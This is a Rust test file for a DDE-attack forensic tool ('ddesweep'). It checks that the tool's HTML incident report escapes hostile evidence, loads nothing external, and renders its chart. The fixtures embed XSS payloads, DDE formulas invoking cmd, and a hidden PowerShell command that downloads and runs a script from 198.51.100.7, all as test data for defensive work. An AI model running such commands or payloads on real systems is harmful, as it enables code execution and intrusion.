//! `report.html` from a hand-built report: self-contained, evidence escaped, and (where Chromium
//! is installed, as in CI) rendered to a screenshot that shows the page and the incident chart.
//!
//! The screenshot is kept at `target/report-screenshot.png` (and the page beside it, as
//! `report-screenshot.html`) to look at.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use ddesweep::correlate::model::*;
use ddesweep::output::report::{chart, write_html, write_iocs_csv, write_markdown};
use ddesweep::profile::{Confidence, Severity};
use ddesweep::time::Timestamp;

const SCRIPT: &str = "<script>alert(1)</script>";
const IMG: &str = "\"><img src=x onerror=alert(document.domain)>";

/// 2024-03-01T10:15:00Z in microseconds.
const T0: i64 = 1_709_288_100_000_000;
const SECOND: i64 = 1_000_000;

/// The timeline's form of a time (`2024-03-01T10:15:00.000000+00:00`).
fn rfc3339(micros: i64) -> String {
    Timestamp::from_unix_micros(micros).unwrap().to_rfc3339()
}

fn row(id: &str, at: i64, stage: Stage, severity: Severity, message: &str) -> IncidentRow {
    IncidentRow {
        row_id: id.to_owned(),
        datetime: rfc3339(at),
        timestamp: at,
        timestamp_desc: "Recorded Time".to_owned(),
        stage,
        severity,
        message: message.to_owned(),
        data_type: "ddesweep:test".to_owned(),
    }
}

fn origin(path: &str, command: &str) -> DocumentOrigin {
    DocumentOrigin {
        paths: vec![
            path.to_owned(),
            "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\X1Y2Z3\\Invoice.docx".to_owned(),
        ],
        sha256: "3f".repeat(32),
        commands: vec![command.to_owned()],
        origin: "e-mail attachment".to_owned(),
        origin_detail: "Outlook attachment cache, Mark of the Web zone 3".to_owned(),
        zone_id: Some(3),
        host_url: None,
        referrer_url: None,
        trusted: false,
        opened: true,
        rows: vec!["a1".to_owned(), "a2".to_owned()],
    }
}

fn child(command: &str) -> ProcessEntry {
    ProcessEntry {
        started: rfc3339(T0 + 95 * SECOND),
        image: "C:\\Windows\\System32\\cmd.exe".to_owned(),
        command: command.to_owned(),
        process_id: Some(6120),
        process_guid: Some("{6f1c2a3b-1111-65e1-2a00-000000001f00}".to_owned()),
        parent_image: Some(
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".to_owned(),
        ),
        parent_process_id: Some(4410),
        user: Some("CORP\\bob".to_owned()),
        rule_id: Some("ddesweep.process.office_shell".to_owned()),
        row_id: "a5".to_owned(),
    }
}

/// One host to escalate: an incident of eight rows over five minutes across the stages, and a
/// second whose document file time lies two years before its event-log rows.
pub fn report() -> Report {
    let path = format!("C:\\Users\\bob\\Downloads\\Invoice{IMG}.docx");
    let command = format!(
        "C:\\Windows\\System32\\cmd.exe /k powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('hxxp://198.51.100.7/a.ps1')\" {SCRIPT}"
    );
    let rows = vec![
        row(
            "a0",
            T0,
            Stage::EnablingSetting,
            Severity::High,
            "Sysmon 13: Word\\Security\\AllowDDE = DWORD (0x00000001)",
        ),
        row(
            "a1",
            T0 + 20 * SECOND,
            Stage::Delivery,
            Severity::Medium,
            "Outlook saved Invoice.docx to Content.Outlook",
        ),
        row(
            "a2",
            T0 + 41 * SECOND,
            Stage::Document,
            Severity::High,
            &format!("DDEAUTO field in {path}: {command}"),
        ),
        row(
            "a3",
            T0 + 80 * SECOND,
            Stage::Opened,
            Severity::Low,
            "WINWORD.EXE opened Invoice.docx (File MRU)",
        ),
        row(
            "a5",
            T0 + 95 * SECOND,
            Stage::Execution,
            Severity::Critical,
            &format!("WINWORD.EXE started {command}"),
        ),
        row(
            "a6",
            T0 + 97 * SECOND,
            Stage::Descendant,
            Severity::High,
            "cmd.exe started powershell.exe -nop -w hidden",
        ),
        row(
            "a7",
            T0 + 160 * SECOND,
            Stage::Activity,
            Severity::High,
            &format!("powershell.exe connected to 198.51.100.7:80 {IMG}"),
        ),
        row(
            "a8",
            T0 + 300 * SECOND,
            Stage::Memory,
            Severity::Medium,
            "DDEAUTO cmd|'/c calc'!A0 in memory",
        ),
    ];
    let first = Incident {
        id: "WS01-1".to_owned(),
        title: format!("Invoice.docx from e-mail ran cmd.exe and PowerShell {SCRIPT}"),
        confidence: Confidence::High,
        severity: Severity::Critical,
        escalate: true,
        first_seen: rows[0].datetime.clone(),
        last_seen: rows[7].datetime.clone(),
        users: vec!["CORP\\bob".to_owned()],
        document: Some(origin(&path, &command)),
        narrative: vec![
            "AllowDDE was set to 1 for Word.".to_owned(),
            "Outlook saved Invoice.docx from an e-mail.".to_owned(),
            format!("WINWORD.EXE (PID 4410) started {command}."),
            "PowerShell connected to 198.51.100.7.".to_owned(),
        ],
        rows,
        rows_omitted: 0,
    };
    let old = T0 - 730 * 86_400 * SECOND;
    let second = Incident {
        id: "WS01-2".to_owned(),
        title: "Old DDE spreadsheet opened again".to_owned(),
        confidence: Confidence::Medium,
        severity: Severity::High,
        escalate: false,
        first_seen: rfc3339(old),
        last_seen: rfc3339(T0 + 3600 * SECOND),
        users: vec!["CORP\\bob".to_owned()],
        document: None,
        narrative: vec!["A spreadsheet created two years ago was opened.".to_owned()],
        rows: vec![
            row(
                "b1",
                old,
                Stage::Document,
                Severity::High,
                "DDE formula =cmd|'/c calc'!A0 in Budget.csv (file created)",
            ),
            row(
                "b2",
                T0 + 3590 * SECOND,
                Stage::Opened,
                Severity::Low,
                "EXCEL.EXE opened Budget.csv",
            ),
            row(
                "b3",
                T0 + 3600 * SECOND,
                Stage::Execution,
                Severity::Critical,
                "EXCEL.EXE started calc.exe",
            ),
        ],
        rows_omitted: 0,
    };
    let host = HostReport {
        host: "WS01".to_owned(),
        names: vec!["WS01".to_owned(), "ws01.corp.example".to_owned()],
        evidence: vec!["ws01.E01".to_owned()],
        verdict: Verdict::Escalate,
        reasons: vec![Reason {
            text: format!("WINWORD.EXE started a shell from a DDE document {SCRIPT}."),
            verdict: Verdict::Escalate,
            rows: vec!["a2".to_owned(), "a5".to_owned()],
        }],
        incidents: vec![first, second],
        playbook: Playbook {
            document_origins: vec![origin(&path, &command)],
            activity_per_day: vec![DayActivity {
                date: "2024-03-01".to_owned(),
                documents: 2,
                processes: 3,
                registry: 1,
                other: 2,
                total: 8,
                above_baseline: true,
            }],
            baseline: "8 findings on 2024-03-01 against a baseline of 0.".to_owned(),
            office_children: vec![child(&command)],
            phishing: vec![],
        },
        containment: Containment {
            isolate_host: Some("Confirmed DDE execution with network activity.".to_owned()),
            processes: vec![child(&command)],
            files: vec![FileToQuarantine {
                path: path.clone(),
                sha256: Some("3f".repeat(32)),
                why: "The DDE document.".to_owned(),
                rows: vec!["a2".to_owned()],
            }],
            accounts: vec![Account {
                user: "CORP\\bob".to_owned(),
                sid: Some("S-1-5-21-1004336348-1177238915-682003330-1104".to_owned()),
                why: "Ran the payload.".to_owned(),
            }],
            settings_to_revert: vec![],
            persistence: vec![],
            block: vec!["198.51.100.7".to_owned()],
        },
        excluded: vec![],
        rows: 120,
        findings: 11,
    };
    Report {
        schema: SCHEMA,
        tool: "ddesweep",
        version: "0.1.0",
        profile: ProfileRef {
            name: "default".to_owned(),
            sha256: "0d".repeat(32),
        },
        evidence: vec!["ws01.E01".to_owned()],
        summary: Summary {
            hosts: 1,
            escalate: 1,
            investigate: 0,
            no_evidence: 0,
            incidents: 2,
            iocs: 2,
        },
        hosts: vec![host],
        iocs: vec![
            Ioc {
                kind: IocKind::Command,
                value: command.clone(),
                context: "DDE payload of Invoice.docx".to_owned(),
                hosts: vec!["WS01".to_owned()],
                incidents: vec!["WS01-1".to_owned()],
                first_seen: rfc3339(T0 + 41 * SECOND),
                rows: vec!["a2".to_owned(), "a5".to_owned()],
                occurrences: 1,
            },
            Ioc {
                kind: IocKind::Ip,
                value: "198.51.100.7".to_owned(),
                context: "Sysmon 3 connection by powershell.exe".to_owned(),
                hosts: vec!["WS01".to_owned()],
                incidents: vec!["WS01-1".to_owned()],
                first_seen: rfc3339(T0 + 160 * SECOND),
                rows: vec!["a7".to_owned()],
                occurrences: 1,
            },
        ],
    }
}

/// The values of every `src=`, `href=`, `srcset=`, `action=` and `url(` in the page.
fn references(page: &str) -> Vec<String> {
    let lower = page.to_ascii_lowercase();
    let mut found = Vec::new();
    for pattern in ["src=", "href=", "srcset=", "action=", "url("] {
        for (at, _) in lower.match_indices(pattern) {
            let value: String = lower[at + pattern.len()..]
                .trim_start_matches(['"', '\'', ' '])
                .chars()
                .take_while(|c| !matches!(c, '"' | '\'' | ' ' | '>' | ')'))
                .collect();
            found.push(value);
        }
    }
    found
}

#[test]
fn report_html_is_self_contained_escaped_and_shows_the_chart() {
    let report = report();
    let dir = tempfile::tempdir().unwrap();
    let html_path = dir.path().join("report.html");
    let mut page = Vec::new();
    write_html(&report, &mut page).unwrap();
    fs::write(&html_path, &page).unwrap();
    let page = String::from_utf8(page).unwrap();

    for reference in references(&page) {
        assert!(
            !reference.starts_with("http:")
                && !reference.starts_with("https:")
                && !reference.starts_with("//"),
            "external reference {reference}"
        );
    }
    assert!(!page.to_ascii_lowercase().contains("<script"));
    assert!(!page.contains(SCRIPT) && !page.contains(IMG) && !page.contains("<img"));
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(page.contains("default-src 'none'"));
    assert_eq!(page.matches(r#"<svg class="incident-chart""#).count(), 2);

    // The other forms of the same report are deterministic and escaped as well.
    let (mut md, mut md_again, mut csv) = (Vec::new(), Vec::new(), Vec::new());
    write_markdown(&report, &mut md).unwrap();
    write_markdown(&report, &mut md_again).unwrap();
    write_iocs_csv(&report, &mut csv).unwrap();
    assert_eq!(md, md_again);
    assert!(String::from_utf8(csv).unwrap().contains(",\"C:\\Windows"));

    let chromium = Path::new("/usr/bin/chromium");
    if !chromium.exists() {
        eprintln!(
            "skip: /usr/bin/chromium is missing (apt-get install -y chromium); screenshot not checked"
        );
        return;
    }
    let png_path = dir.path().join("report.png");
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join(".ci/render-report.sh");
    let status = Command::new(&script)
        .arg(&html_path)
        .arg(&png_path)
        .status()
        .unwrap();
    assert!(status.success(), "{} failed: {status}", script.display());
    let keep = screenshot_copy();
    fs::copy(&png_path, &keep).unwrap();
    fs::copy(&html_path, keep.with_extension("html")).unwrap();

    let (width, height, pixels) = decode_rgb(&png_path);
    assert!(width >= 1000 && height >= 1000, "{width}x{height}");
    let total = pixels.len();
    let white = pixels
        .iter()
        .filter(|p| p.iter().all(|&c| c >= 250))
        .count();
    assert!(
        white < total * 97 / 100,
        "screenshot nearly blank ({white} of {total} white)"
    );
    let mut colours: Vec<[u8; 3]> = pixels.clone();
    colours.sort_unstable();
    colours.dedup();
    assert!(colours.len() > 50, "only {} colours", colours.len());

    // The banner's red, and the chart's critical and high markers (colours used nowhere else).
    let near = |p: &[u8; 3], c: [u8; 3]| p.iter().zip(c).all(|(a, b)| a.abs_diff(b) <= 4);
    let count = |c: [u8; 3]| pixels.iter().filter(|p| near(p, c)).count();
    assert!(count([0xb3, 0x26, 0x1e]) > 5_000, "no escalate banner");
    for severity in [Severity::Critical, Severity::High] {
        let marker = chart::marker_rgb(severity);
        let seen = count(marker);
        assert!(
            seen > 150,
            "{severity:?} markers: {seen} pixels of {marker:02x?}"
        );
    }
}

/// Where the screenshot is kept: `target/report-screenshot.png` (the target folder is the
/// parent of Cargo's `CARGO_TARGET_TMPDIR`).
fn screenshot_copy() -> PathBuf {
    let tmp = Path::new(env!("CARGO_TARGET_TMPDIR"));
    tmp.parent().unwrap_or(tmp).join("report-screenshot.png")
}

/// A PNG's width, height and RGB pixels.
fn decode_rgb(path: &Path) -> (u32, u32, Vec<[u8; 3]>) {
    let mut decoder = png::Decoder::new(std::io::BufReader::new(fs::File::open(path).unwrap()));
    decoder.set_transformations(png::Transformations::normalize_to_color8());
    let mut reader = decoder.read_info().unwrap();
    let mut buf = vec![0; reader.output_buffer_size().unwrap()];
    let info = reader.next_frame(&mut buf).unwrap();
    let channels = match info.color_type {
        png::ColorType::Rgb => 3,
        png::ColorType::Rgba => 4,
        other => panic!("unexpected PNG colour type {other:?}"),
    };
    let pixels = buf[..info.buffer_size()]
        .chunks_exact(channels)
        .map(|p| [p[0], p[1], p[2]])
        .collect();
    (info.width, info.height, pixels)
}

/// The report of a real run (the phishing scenario, folder and memory image) renders too: its
/// page fetches nothing, and the screenshot shows the escalate banner and the incident chart's
/// critical markers (WINWORD.EXE -> cmd.exe, the DDEAUTO field).
#[test]
fn scenario_report_renders_with_its_chart() {
    let run = crate::util::scan(
        &[
            &crate::util::testdata("scenarios/wks-sales-042"),
            &crate::util::testdata("scenarios/wks-sales-042.mem"),
        ],
        &["--memory", "--acquired-at", "2024-05-06T10:30:00Z"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let page = String::from_utf8(run.output_bytes("report.html")).unwrap();
    assert!(references(&page).iter().all(|r| !r.contains("//")));
    assert!(!page.to_ascii_lowercase().contains("<script"));
    assert_eq!(page.matches(r#"<svg class="incident-chart""#).count(), 1);
    assert!(page.contains("WKS-SALES-042-1"));

    if !Path::new("/usr/bin/chromium").exists() {
        eprintln!("skip: /usr/bin/chromium is missing (apt-get install -y chromium)");
        return;
    }
    let html_path = run.out.path().join("report.html");
    let png_path = run.out.path().join("report.png");
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join(".ci/render-report.sh");
    let status = Command::new(&script)
        .arg(&html_path)
        .arg(&png_path)
        .status()
        .unwrap();
    assert!(status.success(), "{} failed: {status}", script.display());
    let (_, _, pixels) = decode_rgb(&png_path);
    let near = |p: &[u8; 3], c: [u8; 3]| p.iter().zip(c).all(|(a, b)| a.abs_diff(b) <= 4);
    let count = |c: [u8; 3]| pixels.iter().filter(|p| near(p, c)).count();
    assert!(count([0xb3, 0x26, 0x1e]) > 5_000, "no escalate banner");
    let critical = count(chart::marker_rgb(Severity::Critical));
    assert!(critical > 150, "critical markers: {critical} pixels");
}
